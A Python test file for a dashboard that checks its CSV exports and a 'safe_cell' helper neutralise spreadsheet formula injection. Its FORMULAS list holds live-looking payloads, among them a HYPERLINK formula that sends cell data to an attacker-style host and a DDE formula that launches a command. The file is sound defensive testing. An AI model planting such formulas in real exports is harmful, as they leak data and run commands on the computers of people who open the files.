"""CSV injection: the response report wrote `=HYPERLINK(...)` raw. Every CSV the dashboard writes
makes a cell that starts with = + - @ (or a tab or carriage return) into text a spreadsheet will not run."""

from __future__ import annotations

import csv
import io
import sqlite3

from fastapi.testclient import TestClient

from dashboard.app import create_app
from dashboard.csv_cells import safe_cell
from tests.dashboard.conftest import seeded, seeded_template  # noqa: F401 - fixtures
from tests.dashboard.world import login

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
            "\t=1+1", "\r=1+1"]


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _assert_inert(text: str) -> None:
    for cell in _cells(text):
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_the_cell_rule():
    assert [safe_cell(f) for f in FORMULAS] == ["'" + f for f in FORMULAS]
    assert [safe_cell(v) for v in ("hh-3-502", 3, -1.5, "", None)] == ["hh-3-502", 3, -1.5, "", None]


def test_response_report_and_event_log_exports_neutralise_formulas(seeded):
    conn = sqlite3.connect(seeded.db_path)
    with conn:
        conn.execute("UPDATE teams SET name = ? WHERE team = 'team-1'", (FORMULAS[0],))
        for number, formula in enumerate(FORMULAS[1:]):  # what a device or an import could leave in a text column
            conn.execute("UPDATE events SET state = ? WHERE rowid = ?", (formula, number + 1))
    conn.close()
    client = TestClient(create_app(seeded.db_path))
    login(client, "admin")
    for path in ("/reports/response.csv", "/api/v1/reports/response.csv", "/events.csv", "/api/v1/events/export.csv"):
        answer = client.get(path, params={"since": "2000-01-01T00:00", "until": "2100-01-01T00:00"}
                            if "reports" in path else {})
        assert answer.status_code == 200, (path, answer.text)
        _assert_inert(answer.text)
        assert any(cell.startswith("'=") or cell.startswith("'+") for cell in _cells(answer.text)), path
